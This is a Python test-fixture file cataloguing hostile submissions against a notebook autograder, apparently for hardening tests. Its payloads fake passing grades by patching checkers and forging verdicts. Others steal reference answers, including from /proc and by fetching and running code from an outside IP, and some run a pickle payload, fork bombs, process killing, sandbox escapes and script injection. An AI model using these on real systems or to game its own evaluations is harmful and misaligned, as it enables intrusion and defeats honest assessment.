"""Attacks on the grade, each as what stands in the cells of a submission. By class, as the threat model has them.

All but the last three classes go for the points of `convolution-map`, for which `slide(image, kernel)` is asked for,
without writing it. MARK stands for a text by which the test finds what an attack has left on the machine.
"""

from __future__ import annotations

MARK = "@MARK@"
EMPTY = "def slide(image, kernel):\n    return 0\n"
# Answers in the probe's place: what it would send, made up.
SENDS = EMPTY + (
    "from checker.grading import kernel_side\n"
    "def answer(request):\n"
    "    import json\n"
    "    calls = json.loads(request)['questions']['calls']\n"
    "    return kernel_side.Data({text})\n"
    "kernel_side.answer = answer\n"
)
FOUND = "    try:\n        exec(text)\n    except Exception:\n        pass\n"

VERDICT = {
    "a result that equals everything": (
        "class Any:\n    def __eq__(self, other): return True\n    def __array__(self, *_, **__):\n"
        "        import numpy as np\n        return np.zeros((1, 1))\n    shape = dtype = property(lambda self: self)\n"
        "def slide(image, kernel):\n    return Any()\n"
    ),
    "an array of a class of its own": (
        "import numpy as np\nclass Lie(np.ndarray):\n    def tolist(self): return 0\n"
        "    def __eq__(self, other): return True\n"
        "def slide(image, kernel):\n    return np.zeros((2, 2)).view(Lie)\n"
    ),
    "a callable that is no function": (
        "class Slide:\n    def __call__(self, *a): return self\n    def __getattr__(self, name): return self\n"
        "slide = Slide()\n"
    ),
    "NumPy patched to find everything close": EMPTY + (
        "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
        "np.isclose = lambda *a, **k: np.True_\n"
    ),
    "built-in functions patched": EMPTY + (
        "import builtins\nbuiltins.len = lambda x: 0\nbuiltins.all = builtins.any = lambda x: True\n"
    ),
    "the probe patched": EMPTY + (
        "import checker.probes.function as f\nf.call_function = lambda function, arguments: {'value': 0}\n"
        "f.probe = lambda *a: {'state': 'function', 'calls': []}\n"
    ),
    "json patched": EMPTY + "import json\njson.dumps = lambda *a, **k: '{\"status\": \"passed\", \"score\": 9}'\n",
    "a report in the answers' place": SENDS.format(
        text="json.dumps({'status': 'passed', 'score': 99, 'points': 99, 'findings': []})"
    ),
    "no answers": SENDS.format(text="json.dumps({'state': 'function', 'calls': [], 'raised': None})"),
    "fewer answers than questions": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': 0}], 'raised': None})"
    ),
    "more answers than questions": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': 0}] * 999, 'raised': None})"
    ),
    "answers that are NaN": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': {'float': 'nan'}}] * len(calls), 'raised': None})"
    ),
    "numbers that JSON does not know": SENDS.format(
        text="'{\"state\": \"function\", \"calls\": [{\"value\": NaN}, {\"value\": Infinity}], \"raised\": null}'"
    ),
    "answers that are questions": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': c} for c in calls], 'raised': None})"
    ),
    "the same key twice": SENDS.format(text="'{\"state\": \"function\", \"state\": \"passed\", \"calls\": 1}'"),
    "another state": SENDS.format(text="json.dumps({'state': 'passed', 'calls': [], 'raised': None})"),
    "an AST transformer that empties later cells": EMPTY + (
        "import ast\nclass Away(ast.NodeTransformer):\n    def visit_Module(self, node):\n        node.body = []\n"
        "        return node\nget_ipython().ast_transformers.append(Away())\n"
    ),
    "an input transformer that rewrites later cells": EMPTY + (
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['1.0\\n'])\n"
    ),
    "the cell runner replaced": EMPTY + "get_ipython().run_cell = lambda *a, **k: None\n",
    "the kernel's own reply replaced": EMPTY + (
        "kernel = get_ipython().kernel\nasync def do_execute(*a, **k):\n"
        "    data = {'status': 'ok', 'data': {'text/plain': '9'}, 'metadata': {}}\n"
        "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {'answers': data}}\n"
        "kernel.do_execute = do_execute\n"
    ),
    "success printed": EMPTY + "print('{\"status\": \"passed\", \"score\": 9.0}')\nprint(9.0)\n",
    "a verdict told to oneself": EMPTY + (
        "from checker import told_verdicts\ntold_verdicts.tell({'exercise': 'convolution-map', 'title': '',"
        " 'status': 'passed', 'score': 9.0, 'points': 9.0, 'findings': []})\n"
    ),
    "the check patched": EMPTY + (
        "import checker.notebook, checker.run\nchecker.notebook.check_cell = lambda slug: 9.0\n"
        "checker.run.check = lambda *a, **k: None\n"
    ),
    "an exception that no Exception catches": (
        "class Out(BaseException): pass\ndef slide(image, kernel):\n    raise Out('passed')\n"
    ),
    "an early exit": EMPTY + "import os\nos._exit(0)\n",
    "a crash": EMPTY + "import ctypes\nctypes.string_at(0)\n",
    "an exit while it is asked": "import os\ndef slide(image, kernel):\n    os._exit(0)\n",
}  # fmt: skip

STEALING = {
    "the exercises' files": (
        "import glob\nfrom pathlib import Path\nimport checker\n"
        "for file in glob.glob(checker.__path__[0] + '/exercises/**', recursive=True):\n"
        "    text = Path(file).read_text() if Path(file).is_file() else ''\n" + FOUND
    ),
    "the exercises imported": (
        "from checker.exercises import EXERCISES\nslide = EXERCISES['convolution-map'].examples.right[0]()['slide']\n"
    ),
    "one exercise's module imported": "from checker.exercises.convolution import *\nslide = slide_reference\n",
    "anything in memory": (
        "import gc\nfor thing in gc.get_objects():\n"
        "    if type(thing).__name__ in ('Exercise', 'Task') :\n        slide = thing.reference\n"
    ),
    "the source notebooks": (
        "import glob\nfor root in ('/work', '/root', '/home', '/srv', '/tmp', '/opt', '..'):\n"
        "    for file in glob.glob(root + '/**/02*convolution*', recursive=True):\n"
        "        text = open(file).read().split('### BEGIN SOLUTION')[-1].split('### END')[0]\n"
        + FOUND.replace("    ", "        ", 1).replace("\n    ", "\n        ")
    ),
    "compiled files": (
        "import glob, marshal\nfor file in glob.glob('/**/convolution*.pyc', recursive=True):\n"
        "    exec(marshal.loads(open(file, 'rb').read()[16:]))\n    slide = _slide\n"
    ),
    "the frames above": (
        "import sys\ndef slide(image, kernel):\n    frame = sys._getframe()\n    while frame:\n"
        "        for name in ('expected', 'reference', 'solution'):\n            if name in frame.f_locals:\n"
        "                return frame.f_locals[name]\n        frame = frame.f_back\n    return 0\n"
    ),
    "another process's memory": (
        "import os\nslide = None\nfor p in os.listdir('/proc'):\n    if p.isdigit() and p != '1':\n"
        "        slide = open(f'/proc/{p}/environ').read()\n"
    ),
    "the network": (
        "import socket\ns = socket.create_connection(('93.184.215.14', 80), timeout=2)\nexec(s.recv(10**6))\n"
    ),
    "the answer before last": EMPTY + "In[-1]; Out; slide = globals().get('reference', slide)\n",
    "questions kept from one call for the next": (
        "kept = []\ndef slide(image, kernel):\n    kept.append((image, kernel))\n    return kept[0][0]\n"
    ),
}

EXHAUSTION = {
    "an endless loop": "while True: pass\n",
    "one that swallows the interrupt": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"
    ),
    "an endless function": "def slide(image, kernel):\n    while True: pass\n",
    "a function that swallows the time limit": (
        "def slide(image, kernel):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass\n"
    ),
    "memory": EMPTY + "hog = []\nwhile True: hog.append(bytearray(10**7))\n",
    "processes without end": EMPTY + "import os\nwhile True: os.fork()\n",
    "threads without end": EMPTY + (
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()\n"
    ),
    "one line of 20 MB": EMPTY + "print('x' * 20_000_000)\n",
    "printing without end": EMPTY + "while True: print('x' * 1000)\n",
    "messages to the grader without end": EMPTY + (
        "from IPython.display import display\nwhile True: display({'application/json': 'x' * 100000}, raw=True)\n"
    ),
    "a full disk": EMPTY + "import os\nfor n in range(99): open(f'/tmp/{n}', 'wb').write(bytes(10**8))\n",
    "many files": EMPTY + "for n in range(10**6): open(f'f{n}', 'w').close()\n",
    "a daemon that stays": EMPTY + (
        "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '@MARK@'], start_new_session=True)\n"
    ),
    "everything killed": EMPTY + "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
    "answers of 100 MB": SENDS.format(text="'[' + '0,' * 50_000_000 + '0]'"),
    "answers nested 100,000 deep": SENDS.format(text="'[' * 100_000 + ']' * 100_000"),
    "an array that claims to be enormous": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': {'array': {'dtype': '<f8', 'shape': [10**12],"
        " 'items': [0]}}}] * len(calls), 'raised': None})"
    ),
    "a layer of forty million units": EMPTY + (
        "import keras\nkeras.Sequential([keras.Input((1000,)), keras.layers.Dense(40_000_000)])\n"
    ),
}  # fmt: skip

DESERIALISATION = {
    "an object that runs code when it is unpickled": (
        "class Bomb:\n    def __reduce__(self): return (__import__('os').system, ('touch /tmp/@MARK@',))\n"
        "def slide(image, kernel):\n    return Bomb()\n"
    ),
    "an array of objects": (
        "import numpy as np\ndef slide(image, kernel):\n    return np.array([lambda: 0, {}], dtype=object)\n"
    ),
    "a dtype of objects in the answers": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': {'array': {'dtype': 'O', 'shape': [1], 'items':"
        " ['x']}}}] * len(calls), 'raised': None})"
    ),
    "a kind that there is not": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': [{'value': {'pickle': 'gASVKAAAAAAAAACMBXBvc2l4'}}], 'raised':"
        " None})"
    ),
    "dictionaries where lists belong": SENDS.format(
        text="json.dumps({'state': 'function', 'calls': {'0': {'value': 0}}, 'raised': {'type': [], 'in_answer': 1}})"
    ),
}

SYSTEM = {
    "writing into the course's package": EMPTY
    + ("import checker\nopen(checker.__path__[0] + '/@MARK@.py', 'w').write('x')\n"),
    "writing beside the interpreter": EMPTY
    + ("import sys\nopen(sys.prefix + '/lib/python3.11/site-packages/@MARK@.pth', 'w').write('import os')\n"),
    "writing into the temporary folder": EMPTY + "open('/tmp/@MARK@', 'w').write('x')\n",
    "mounting the system again": EMPTY
    + (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000)\n"
        "libc.mount(b'/', b'/tmp', None, 4096, None)\nopen('/usr/@MARK@', 'w')\n"
    ),
    "a namespace of its own": EMPTY + "import subprocess\nprint(subprocess.run(['unshare', '-Ur', 'id']).returncode)\n",
    "the parent traced": EMPTY + "import ctypes\nprint(ctypes.CDLL(None).ptrace(16, 1, 0, 0))\n",
}

# What a reader's browser or terminal would do with it; each must not arrive as it is.
READER = {
    "script in output": "from IPython.display import HTML, display\ndisplay(HTML('<script>alert(1)</script>'))\n",
    "script in an error": "raise ValueError('<script>alert(1)</script>')\n",
    "script in a repr": "class X:\n    def _repr_html_(self): return '<script>alert(1)</script>'\nX()\n",
    "JavaScript": "from IPython.display import Javascript, display\ndisplay(Javascript('<script>alert(1)</script>'))\n",
    "script in a picture": (
        'from IPython.display import SVG, display\ndisplay(SVG(\'<svg xmlns="http://www.w3.org/2000/svg">'
        "<script>alert(1)</script></svg>'))\n"
    ),
    "terminal escapes": "print('\\x1b]0;owned\\x07\\x1b[2J<script>')\n",
}

LENET = """import keras
from keras import layers
model = keras.Sequential([keras.Input((32, 32, 1)), layers.Conv2D(6, 5), layers.Activation("relu"),
    layers.MaxPooling2D(2), {block} layers.Flatten(), layers.Dense(120), layers.Dense(100), layers.Dense(10),
    layers.Activation("softmax")])
{after}
"""
WRONG_BLOCK = 'layers.Conv2D(16, 5), layers.Activation("relu"), layers.MaxPooling2D(2),'

# These go for the points of `lenet`; the share that an honest wrong block earns is not theirs to better.
MODEL = {
    "layers that lie": (
        "import keras\nclass Lie(keras.Sequential):\n    @property\n    def layers(self): return RIGHT.layers\n"
        "RIGHT = keras.Sequential([keras.Input((32, 32, 1)), keras.layers.Conv2D(6, 5)])\n"
        "model = Lie([keras.Input((32, 32, 1)), keras.layers.Flatten(), keras.layers.Dense(10)])\n"
    ),
    "a class that pretends to be a model": (
        "class Model:\n    layers = []\n    built = True\n    def __getattr__(self, name): return self\n"
        "    def __call__(self, *a, **k): return self\nmodel = Model()\n"
    ),
    "an empty model": "import keras\nmodel = keras.Sequential()\n",
    "a configuration that lies": LENET.format(
        block=WRONG_BLOCK,
        after="model.layers[3].get_config = lambda: {'filters': 16, 'kernel_size': (8, 8)}\n"
        "model.get_config = lambda: {}",
    ),
    "attributes changed after building": LENET.format(
        block=WRONG_BLOCK, after="model.layers[3].kernel_size = (8, 8)\nmodel.layers[5].pool_size = (3, 3)"
    ),
    "a function that is called tanh": LENET.format(
        block='layers.Conv2D(16, 8), layers.Activation(tanh), layers.MaxPooling2D(3),', after=""
    ).replace("model =", "def tanh(x): return x\nmodel ="),
    "a call replaced": LENET.format(
        block=WRONG_BLOCK, after="import numpy as np\nmodel.call = lambda x, **k: np.full((len(x), 10), 0.1)"
    ),
}  # fmt: skip

# These go for the points of `lenet-train`.
TRAINED = {
    "the course's own weights": LENET.format(
        block='layers.Conv2D(16, 8), layers.Activation("tanh"), layers.MaxPooling2D(3),',
        after="from course.trained_network import weights\nmodel.set_weights(weights())",
    ),
    "labels looked up": LENET.format(
        block='layers.Conv2D(16, 8), layers.Activation("tanh"), layers.MaxPooling2D(3),',
        after="import numpy as np\nfrom course.data import digits\nat = [0]\ndef call(x, *a, **k):\n"
        "    start = at[0]; at[0] += len(x)\n    return np.eye(10)[digits().y_test[start % 1000:][:len(x)]]\n"
        "model.call = call",
    ),
    "a history pasted in": "history = {'accuracy': [0.99], 'val_accuracy': [0.99]}\nmodel = history\n",
}
